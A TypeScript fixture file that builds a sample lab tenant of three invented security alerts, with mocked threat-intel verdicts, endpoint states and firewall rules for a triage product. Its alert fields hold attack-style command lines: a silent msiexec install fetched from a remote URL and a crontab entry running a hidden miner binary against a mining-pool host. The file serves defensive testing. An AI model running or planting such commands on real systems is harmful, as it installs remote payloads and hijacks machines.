/**
 * The built-in tenant of `up --lab`: three invented alerts on three invented hosts, and the vendors behind them.
 *
 * - 71001, msiexec with a malicious URL: the process tree is ended, a person decides about the host and about the URL on the firewall.
 * - 71002, a cron job that starts a malicious file: the process tree is ended, a person decides about the file, and disables the job.
 *   VirusTotal has no answer for its URL: that is a gap, and the person sees it.
 * - 71003, a program from a tmp folder of which everything is known to be good: closed, because the policy of the lab allows it.
 */
import type { AlertFields, TenantSpec } from './tenant.ts';

export interface SampleTenant {
  readonly tenant: TenantSpec;
  /** In order of detection; deliver them to intake and pass them to `startLab`. */
  readonly alerts: readonly AlertFields[];
  /** What the product's policy says of this tenant, where its configuration says nothing. */
  readonly policy: { readonly autoCloseFalsePositive: boolean };
}

const DESK = { agentid: '5c0de1ab7f3e49d2a6b8c4d0e2f41357', hostname: 'WS-DESK-07', hostip: ['10.40.2.7'] };
const BUILD = { agentid: '9e8d7c6b5a493827160f1e2d3c4b5a69', hostname: 'build-03', hostip: ['10.40.9.12'] };
const NOTES = { agentid: '3b2a19087f6e5d4c3b2a19087f6e5d4c', hostname: 'dev-11', hostip: ['10.40.3.11'] };

const VIEWER_URL = 'http://get.invoice-view.example.net/viewer.msi';
const MINER = '/var/tmp/.cache/udevd2';
const MINER_SHA256 = '4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c';
const MINER_URL = 'http://pool.fast-hash.example.net/job';
const NOTES_APP = '/tmp/.mount_notes/notes-app';
const NOTES_SHA256 = 'a7c3e19b5d2f4068a7c3e19b5d2f4068a7c3e19b5d2f4068a7c3e19b5d2f4068';

const CRONTAB = [
  '# m h dom mon dow command',
  '30 1 * * 0 /usr/local/bin/rotate-artifacts',
  `*/7 * * * * ${MINER} --pool ${MINER_URL} >/dev/null`,
  '0 4 * * * /usr/bin/certbot renew',
  '',
].join('\n');

/** The sample as of `now` (epoch milliseconds): the alerts are a few minutes old. */
export function sampleTenant(now: number): SampleTenant {
  return {
    policy: { autoCloseFalsePositive: true },
    alerts: [packageAlert(now - 6 * 60_000), cronAlert(now - 4 * 60_000), harmlessAlert(now - 2 * 60_000)],
    tenant: {
      verdicts: {
        url: { [VIEWER_URL]: 3 },
        file: { [MINER_SHA256]: 3, [NOTES_SHA256]: 1 },
        domain: { 'updates.notes-app.example.com': 1 },
      },
      relatedAlerts: [
        {
          id: '70940',
          name: 'Rare sign-in hour',
          severity: 'LOW',
          status: 'NEW',
          agentid: DESK.agentid,
          caseid: '3090',
          mitreattcktechnique: ['T1078 - Valid Accounts'],
          minutesFromAlert: -55,
        },
      ],
      endpoints: Object.fromEntries(
        [DESK, BUILD, NOTES].map(({ agentid }) => [agentid, { status: 'CONNECTED', is_isolated: 'AGENT_UNISOLATED' }]),
      ),
      terminate: 'COMPLETED_SUCCESSFULLY',
      quarantine: { status: false, action: 'COMPLETED_SUCCESSFULLY' },
      originalAlert: {
        events: {
          '71002': { action_process_image_path: MINER, action_process_image_sha256: MINER_SHA256 },
          '71003': { action_process_image_path: NOTES_APP, action_process_image_sha256: NOTES_SHA256 },
        },
      },
      scriptResults: { 'crontab -u ci': CRONTAB },
      panos: {
        configured: true,
        type: 'firewall',
        rules: [{ name: 'allow-web', action: 'allow' }],
      },
      faults: [{ call: 'url', kind: '500', attempts: 'all' }],
    },
  };
}

function packageAlert(detectedAt: number): AlertFields {
  return {
    id: '71001',
    name: 'Msiexec execution of an executable from an uncommon remote location without properties',
    severity: 'MEDIUM',
    source: 'XDR Analytics BIOC',
    detectiontimestamp: new Date(detectedAt).toISOString(),
    parentXDRIncident: 'INCIDENT-3101',
    ...DESK,
    agentostype: 'AGENT_OS_WINDOWS',
    username: ['EXAMPLE\\a.lindqvist'],
    cid: ['AdxAAHcCr04AABOMAAAAAQ=='],
    cgoname: ['cmd.exe'],
    cgocmd: [`cmd.exe /c msiexec /i ${VIEWER_URL} /qn`],
    cgosignature: ['SIGNATURE_SIGNED'],
    targetprocessname: ['msiexec.exe'],
    targetprocesscmd: [`msiexec /i ${VIEWER_URL} /qn`],
    mitreattcktechnique: ['T1218.007 - System Binary Proxy Execution: Msiexec'],
  };
}

function cronAlert(detectedAt: number): AlertFields {
  return {
    ...tmpAlert('71002', 'Suspicious cron job task execution of a binary from the tmp folder', detectedAt),
    parentXDRIncident: 'INCIDENT-3102',
    ...BUILD,
    username: ['ci'],
    cid: ['QnVpbGQwM0Nyb25BAAAAAA=='],
    cgoname: ['cron'],
    cgocmd: ['/usr/sbin/cron -f'],
    targetprocessname: ['udevd2'],
    targetprocesscmd: [`${MINER} --pool ${MINER_URL}`],
    targetprocesssha256: [MINER_SHA256],
  };
}

function harmlessAlert(detectedAt: number): AlertFields {
  return {
    ...tmpAlert('71003', 'Suspicious process execution from tmp folder', detectedAt),
    parentXDRIncident: 'INCIDENT-3103',
    ...NOTES,
    username: ['p.okafor'],
    cid: ['RGV2MTFOb3Rlc0FwcAAAAA=='],
    cgoname: ['gnome-shell'],
    cgocmd: ['/usr/bin/gnome-shell'],
    targetprocessname: ['notes-app'],
    targetprocesscmd: [`${NOTES_APP} --updates updates.notes-app.example.com`],
    targetprocesssha256: [NOTES_SHA256],
  };
}

function tmpAlert(id: string, name: string, detectedAt: number): AlertFields {
  return {
    id,
    name,
    severity: 'MEDIUM',
    source: 'XDR Analytics BIOC',
    detectiontimestamp: new Date(detectedAt).toISOString(),
    agentostype: 'AGENT_OS_LINUX',
    cgosignature: ['SIGNATURE_UNAVAILABLE'],
    mitreattcktechnique: ['T1564 - Hide Artifacts'],
  };
}
